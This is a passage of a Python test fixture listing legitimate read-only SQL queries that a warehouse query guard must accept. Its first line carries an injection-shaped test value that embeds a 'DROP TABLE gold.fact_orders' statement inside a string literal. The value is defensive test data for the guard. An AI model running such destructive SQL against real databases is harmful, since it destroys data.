    ("semicolon in a string", "SELECT '; DROP TABLE gold.fact_orders; --' AS s"),
)


@dataclass(frozen=True)
class Legit:
    label: str
    sql: str
    parameters: dict[str, object]


#: Reads the guard must accept and the engine must run, against the engine tests' warehouse:
#: gold.fact_orders(order_id, customer_id, order_date, region, product_category, total_amount,
#: status), gold.dim_customer(customer_id, name, customer_segment, lifetime_value, is_active,
#: signup_date, tags), silver.events(event_id, customer_id, kind, ts, payload), bronze.raw(id, line).
LEGITIMATE: list[Legit] = [
    Legit(
        "reference: segments",
        "SELECT customer_segment, COUNT(*) as customer_count, AVG(lifetime_value) as avg_ltv "
        "FROM gold.dim_customer WHERE is_active = true GROUP BY customer_segment ORDER BY avg_ltv DESC",
        {},
    ),
    Legit(
        "reference: monthly revenue",
        "SELECT DATE_TRUNC('month', order_date) as month, region, product_category, "
        "SUM(total_amount) as revenue FROM gold.fact_orders WHERE order_date >= :start_date GROUP BY 1, 2, 3",
        {"start_date": "2024-01-01"},
    ),
    Legit(
        "reference: daily revenue (SDK)",
        """
        SELECT
            DATE_TRUNC('day', order_date) as date,
            COUNT(*) as order_count,
            SUM(total_amount) as revenue
        FROM gold.fact_orders
        WHERE order_date >= :start_date
        GROUP BY 1
        ORDER BY 1
        """,
        {"start_date": "2024-01-01", "end_date": "2024-01-31"},
    ),
    Legit(
        "CTE and join",
        "WITH big AS (SELECT customer_id, sum(total_amount) AS spent FROM gold.fact_orders GROUP BY 1) "
        "SELECT c.name, b.spent FROM big b JOIN gold.dim_customer c USING (customer_id) "
        "ORDER BY b.spent DESC",
        {},
    ),
    Legit(
        "chained CTEs",
        "WITH a AS (SELECT * FROM gold.fact_orders WHERE status = 'paid'), "
        "b AS (SELECT region, count(*) AS n FROM a GROUP BY region) SELECT * FROM b ORDER BY n DESC",
        {},
    ),
    Legit(
        "bounded recursive CTE",
        "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 10) SELECT sum(n) FROM r",
        {},
    ),
    Legit(
        "ROW_NUMBER with QUALIFY",
        "SELECT customer_id, order_id, total_amount FROM gold.fact_orders "
        "QUALIFY row_number() OVER (PARTITION BY customer_id ORDER BY total_amount DESC) = 1",
        {},
    ),
    Legit(
        "LAG and LEAD",
        "SELECT order_date, total_amount, lag(total_amount) OVER w AS prev, "
        "lead(total_amount) OVER w AS next "
        "FROM gold.fact_orders WINDOW w AS (PARTITION BY region ORDER BY order_date, order_id)",
        {},
    ),
    Legit(
        "running sum with a frame",
        "SELECT order_id, "
        "sum(total_amount) OVER (ORDER BY order_id ROWS BETWEEN 6 PRECEDING AND CURRENT ROW) "
        "AS rolling FROM gold.fact_orders",
        {},
    ),
    Legit(
        "ROLLUP",
        "SELECT region, product_category, sum(total_amount) FROM gold.fact_orders "
        "GROUP BY ROLLUP (region, product_category)",
        {},
    ),
    Legit(
        "GROUPING SETS",
        "SELECT region, status, count(*) FROM gold.fact_orders "
        "GROUP BY GROUPING SETS ((region), (status), ())",
        {},
    ),
    Legit(
        "HAVING",
        "SELECT region, count(*) AS n FROM gold.fact_orders GROUP BY region HAVING count(*) > 10",
        {},
    ),
    Legit(
        "DISTINCT ON",
        "SELECT DISTINCT ON (region) region, order_id, total_amount FROM gold.fact_orders "
        "ORDER BY region, total_amount DESC",
        {},
    ),
    Legit(
        "UNION ALL",
        "SELECT 'order' AS kind, count(*) FROM gold.fact_orders "
        "UNION ALL SELECT 'event', count(*) FROM silver.events",
        {},
    ),
    Legit(
        "INTERSECT and EXCEPT",
        "(SELECT customer_id FROM gold.dim_customer INTERSECT SELECT customer_id FROM gold.fact_orders) "
        "EXCEPT SELECT customer_id FROM silver.events",
        {},
    ),
    Legit("VALUES", "VALUES (1, 'a'), (2, 'b')", {}),
    Legit("VALUES in FROM", "SELECT * FROM (VALUES (1, 'a'), (2, 'b')) AS t(id, label)", {}),
    Legit(
        "correlated EXISTS",
        "SELECT name FROM gold.dim_customer c WHERE EXISTS "
        "(SELECT 1 FROM gold.fact_orders o WHERE o.customer_id = c.customer_id AND o.total_amount > 900)",
        {},
    ),
    Legit(
        "LEFT JOIN and CASE",
        "SELECT c.customer_id, CASE WHEN count(o.order_id) = 0 THEN 'none' WHEN count(o.order_id) < 50 "
        "THEN 'some' ELSE 'many' END AS bucket FROM gold.dim_customer c "
        "LEFT JOIN gold.fact_orders o ON o.customer_id = c.customer_id GROUP BY c.customer_id",
        {},
    ),
    Legit(
        "dates and intervals",
        "SELECT date_part('year', order_date) AS y, strftime(order_date, '%Y-%m') AS ym, "
        "order_date + INTERVAL 7 DAY AS next_week FROM gold.fact_orders WHERE order_date < DATE '2024-03-01'",
        {},
    ),
    Legit(
        "string functions",
        "SELECT upper(name) || '!' AS shout, regexp_replace(name, '[0-9]+', '#') AS masked "
        "FROM gold.dim_customer WHERE name ILIKE 'customer%' AND name LIKE '%1%'",
        {},
    ),
    Legit(
        "lists, structs and a lambda",
        "SELECT customer_id, list_transform(tags, x -> upper(x)) AS tags, "
        "{'id': customer_id, 'seg': customer_segment} "
        "AS s FROM gold.dim_customer",
        {},
    ),
    Legit("unnest", "SELECT customer_id, unnest(tags) AS tag FROM gold.dim_customer", {}),
    Legit("range table function", "SELECT * FROM range(5) AS r(n)", {}),
    Legit(
        "generate_series",
        "SELECT * FROM generate_series(DATE '2024-01-01', DATE '2024-01-07', INTERVAL 1 DAY)",
        {},
    ),
    Legit(
        "FILTER and statistics",
        "SELECT count(*) FILTER (WHERE status = 'paid') AS paid, "
        "approx_count_distinct(customer_id) AS customers, median(total_amount) AS med, "
        "quantile_cont(total_amount, 0.9) AS p90, arg_max(order_id, total_amount) AS top "
        "FROM gold.fact_orders",
        {},
    ),
    Legit("FROM-first", "FROM gold.fact_orders SELECT region, count(*) GROUP BY region", {}),
    Legit("SELECT * EXCLUDE", "SELECT * EXCLUDE (status) FROM gold.fact_orders", {}),
    Legit("JSON extraction", "SELECT payload->>'$.page' AS page, count(*) FROM silver.events GROUP BY 1", {}),
    Legit(
        "ORDER BY NULLS LAST with LIMIT and OFFSET",
        "SELECT * FROM gold.dim_customer ORDER BY lifetime_value DESC NULLS LAST LIMIT 10 OFFSET 5",
        {},
    ),
    Legit(
        "parameter first in the select list",
        "SELECT :label AS label, count(*) AS n FROM gold.fact_orders",
        {"label": "all"},
    ),
    Legit("parameter in LIMIT", "SELECT order_id FROM gold.fact_orders ORDER BY order_id LIMIT :n", {"n": 3}),
    Legit(
        "the same parameter twice",
        "SELECT count(*) FROM gold.fact_orders "
        "WHERE order_date >= :day AND order_date < CAST(:day AS DATE) + 7",
        {"day": "2024-01-10"},
    ),
    Legit(
        "parameters with casts",
        "SELECT count(*) FROM gold.fact_orders "
        "WHERE order_date BETWEEN :start_date::DATE AND CAST(:end_date AS DATE)",
        {"start_date": "2024-01-01", "end_date": "2024-01-31"},
    ),
    Legit(
        "parameters in an IN list",
        "SELECT region, count(*) FROM gold.fact_orders WHERE region IN (:r1, :r2) GROUP BY region",
        {"r1": "EU", "r2": "US"},
    ),
    Legit("quoted alias", 'SELECT sum(total_amount) AS "Total Revenue" FROM gold.fact_orders', {}),
    Legit("EXPLAIN", "EXPLAIN SELECT * FROM gold.fact_orders WHERE region = 'EU'", {}),
    Legit("EXPLAIN ANALYZE", "EXPLAIN ANALYZE SELECT count(*) FROM gold.fact_orders", {}),
    Legit("DESCRIBE a table", "DESCRIBE gold.fact_orders", {}),
    Legit("DESCRIBE a query", "DESCRIBE SELECT region, total_amount FROM gold.fact_orders", {}),
    Legit("SHOW TABLES", "SHOW TABLES", {}),
    Legit("SHOW ALL TABLES", "SHOW ALL TABLES", {}),
    Legit(
        "comments and a trailing semicolon",
        "-- revenue\nSELECT /* all */ sum(total_amount) FROM gold.fact_orders;",
        {},
    ),
    Legit(
        "information_schema",
        "SELECT table_name, column_name FROM information_schema.columns WHERE table_schema = 'gold'",
        {},
    ),
    Legit("GLOB operator", "SELECT count(*) FROM gold.fact_orders WHERE region GLOB 'E*'", {}),
    Legit(
        "scalar subquery and IN subquery",
        "SELECT (SELECT max(total_amount) FROM gold.fact_orders) AS top, count(*) FROM gold.dim_customer "
        "WHERE customer_id IN (SELECT customer_id FROM silver.events WHERE kind = 'click')",
        {},
    ),
    Legit("constants", "SELECT current_date AS today, 1 + 1 AS two, 'x' AS s", {}),
    Legit("the word query as a column", "SELECT 'q' AS query, count(*) AS glob FROM bronze.raw", {}),
]
